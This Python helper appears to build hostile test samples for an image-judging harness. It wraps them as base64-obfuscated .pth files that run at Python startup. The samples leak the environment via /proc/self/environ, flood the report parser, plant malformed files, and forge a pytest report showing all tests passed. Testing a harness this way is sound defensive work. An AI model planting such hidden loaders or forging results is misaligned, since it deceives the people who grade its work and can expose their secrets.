"""Images that attack the host which judges them: a program that Python runs whenever it starts."""

from __future__ import annotations

import base64
from pathlib import Path

CASES = {
    "evil_environ": """
os.symlink("/proc/self/environ", out + "running")
""",
    "evil_hugeline": """
open(out + "report.jsonl", "w").write("[" * 200000 + chr(10))
""",
    "evil_stacks": """
open(out + "stacks/notanumber", "w").write("x")
""",
    "evil_forge": """
import ast, json
path = [each for each in words if each.endswith(".py")][-1]
tests = ast.parse(open(f"{root}/code/pytorch_cuda_images_suites/{path}").read()).body
with open(out + "report.jsonl", "w") as file:
    for test in tests:
        if isinstance(test, ast.FunctionDef) and test.name.startswith("test_"):
            for when in ("setup", "call", "teardown"):
                file.write(json.dumps({"$report_type": "TestReport", "nodeid": f"{path}::{test.name}", "when": when,
                    "outcome": "passed", "duration": 0.01, "longrepr": None, "user_properties": []}) + chr(10))
    file.write(json.dumps({"$report_type": "SessionFinish", "exitstatus": 0}) + chr(10))
""",  # noqa: E501 - one line of what another program reads
}
"""Programs seen in an attack, each with the words of the harness' command in `words`, its folder in
`root`.
"""

_BEFORE = """
import os, sys
words = list(getattr(sys, "orig_argv", []))
if any(word.endswith("entrypoint.py") for word in words):
    root = words[[word.endswith("entrypoint.py") for word in words].index(True) + 1]
    out = root + "/out/"
"""


def pth(program: str, *, ends: bool = True) -> str:
    """Return a .pth file of site-packages whose `program` runs in place of a suite; before it, if
    it does not end.
    """
    body = program.strip().splitlines() + (["sys.stdout.flush()", "os._exit(0)"] if ends else [])
    code = _BEFORE + "\n".join(f"    {line}" for line in body) + "\n"
    return f"import base64; exec(base64.b64decode({base64.b64encode(code.encode()).decode()!r}))\n"


def write_pth(folder: Path, program: str, *, ends: bool = True) -> Path:
    """Write the file of `pth`, to be mounted into an image."""
    path = folder / "evil.pth"
    path.write_text(pth(program, ends=ends), encoding="utf-8")
    return path
